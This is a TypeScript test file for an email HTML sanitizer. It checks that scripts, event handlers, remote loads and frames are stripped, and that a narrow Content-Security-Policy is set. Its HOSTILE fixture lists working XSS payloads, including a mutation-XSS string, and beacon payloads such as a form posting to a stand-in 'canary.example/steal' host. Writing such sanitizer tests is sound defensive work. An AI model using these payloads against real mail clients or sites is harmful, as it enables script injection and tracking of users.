// @vitest-environment jsdom
import { describe, expect, it } from "vitest";

import { frameContentSecurityPolicy, plainTextDocument, sanitizeMail } from "./sanitize";

// Every way a hostile mail tries to run code or reach the network; each one names the
// canary (canary.example for requests, CANARY for execution).
const HOSTILE = [
  '<script>window.CANARY=1</script>',
  '<img src="x" onerror="CANARY()">',
  '<a href="javascript:CANARY()">click</a>',
  '<form action="https://canary.example/steal"><input name="p"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://canary.example/refresh">',
  '<style>@import url("https://canary.example/import.css"); body{background:url(https://canary.example/bg.png)}</style>',
  '<div style="background-image:url(\'https://canary.example/inline.png\')">x</div>',
  '<svg><script>CANARY()</script><image href="https://canary.example/svg.png"/></svg>',
  '<svg onload="CANARY()"><a xlink:href="javascript:CANARY()"><text>t</text></a></svg>',
  '<iframe src="https://canary.example/frame"></iframe>',
  '<object data="https://canary.example/object"></object>',
  '<link rel="stylesheet" href="https://canary.example/link.css">',
  '<base href="https://canary.example/">',
  '<img srcset="https://canary.example/1x.png 1x">',
  '<table background="https://canary.example/table.png"><tr><td>t</td></tr></table>',
  '<video poster="https://canary.example/poster.png"></video>',
  '<a href="https://example.org/page" ping="https://canary.example/ping">link</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=CANARY()>',
].join("\n");

function bodyOf(document: string): string {
  return document.slice(document.indexOf("<body>"));
}

describe("sanitizeMail", () => {
  it("keeps nothing that runs or reaches the network, and counts what it held back", () => {
    const { document, blocked } = sanitizeMail(HOSTILE, { allowRemote: false });
    const body = bodyOf(document);
    expect(body).not.toMatch(/canary\.example/i);
    expect(body).not.toMatch(/CANARY/);
    expect(body).not.toMatch(/javascript:/i);
    expect(body).not.toMatch(/<(script|form|input|meta|iframe|object|link|base)\b/i);
    expect(body).not.toMatch(/\son\w+=/i);
    expect(blocked).toBeGreaterThanOrEqual(6);
    // Ordinary links stay, opening outside the frame.
    expect(body).toContain('href="https://example.org/page"');
    expect(body).toContain('rel="noopener noreferrer"');
  });

  it("shows remote https images once allowed, still never scripts", () => {
    const html = '<img src="https://images.example/logo.png" onerror="CANARY()"><script>CANARY()</script>';
    const blocked = sanitizeMail(html, { allowRemote: false });
    expect(blocked.blocked).toBe(1);
    expect(bodyOf(blocked.document)).not.toContain("images.example");
    const allowed = sanitizeMail(html, { allowRemote: true });
    expect(allowed.blocked).toBe(0);
    expect(bodyOf(allowed.document)).toContain('src="https://images.example/logo.png"');
    expect(allowed.document).not.toContain("CANARY");
    // Plain http stays blocked even when allowed: the page is https.
    expect(sanitizeMail('<img src="http://images.example/a.png">', { allowRemote: true }).blocked).toBe(1);
  });

  it("keeps inline styles and data: images, and maps cid: parts to local URLs", () => {
    const html = '<p style="color:red">hi</p><img src="data:image/png;base64,AAAA"><img src="cid:logo@x">';
    const { document, blocked } = sanitizeMail(html, {
      allowRemote: false,
      inline: new Map([["logo@x", "blob:https://mail.example/123"]]),
    });
    expect(blocked).toBe(0);
    expect(document).toContain('style="color:red"');
    expect(document).toContain('src="data:image/png;base64,AAAA"');
    expect(document).toContain('src="blob:https://mail.example/123"');
  });

  it("puts its own narrow Content-Security-Policy in the frame's document", () => {
    const { document } = sanitizeMail("<p>x</p>", { allowRemote: false });
    expect(document).toContain("default-src &#39;none&#39;");
    expect(frameContentSecurityPolicy(false)).not.toContain("https:");
    expect(frameContentSecurityPolicy(true)).toContain("img-src data: blob: https:");
    expect(frameContentSecurityPolicy(true)).not.toContain("script");
  });

  it("shows plain text as text", () => {
    const document = plainTextDocument("<script>CANARY()</script> & more");
    expect(document).toContain("&#60;script&#62;CANARY()&#60;/script&#62; &#38; more");
    expect(document).not.toContain("<script>");
  });
});
